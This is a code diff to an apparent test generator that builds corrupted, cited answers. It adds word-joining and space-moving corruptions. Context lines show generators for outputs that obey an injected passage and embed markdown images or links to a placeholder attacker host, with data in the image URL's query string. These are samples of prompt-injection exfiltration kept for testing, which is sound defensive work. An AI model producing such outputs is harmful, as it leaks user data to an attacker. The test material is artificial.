@@ -93,6 +93,11 @@ def _negated(prompt: Seen) -> str:
     return f"{negated if verbs else 'It is not true that ' + sentence} [{number}]."
 
 
+def _moves_a_space(prompt: Seen) -> str:
+    number, sentence = prompt.best
+    return re.sub(r" (.)", r"\1 ", sentence, count=1) + f" [{number}]."
+
+
 def _swapped_names(prompt: Seen) -> str:
     number, sentence = prompt.best
     names = list(dict.fromkeys(_NAME.findall(sentence)))
@@ -133,6 +138,8 @@ CONTENT: dict[str, Write] = {
     "wrong_numbers": _wrong_numbers,
     "negated": _negated,
     "swapped_names": _swapped_names,
+    "joins_words": lambda p: f"{p.best[1].replace(' ', '', 1)} [{p.best[0]}].",
+    "moves_a_space": _moves_a_space,
     "obeys_a_passage": _obeys,
     "markdown_image": lambda p: f"![{p.best[1]}](https://{EVIL}/p.png?q={p.fence}) {_right(p)}",
     "markdown_link": lambda p: f"[{p.best[1]}](https://{EVIL}/) [{p.best[0]}].",
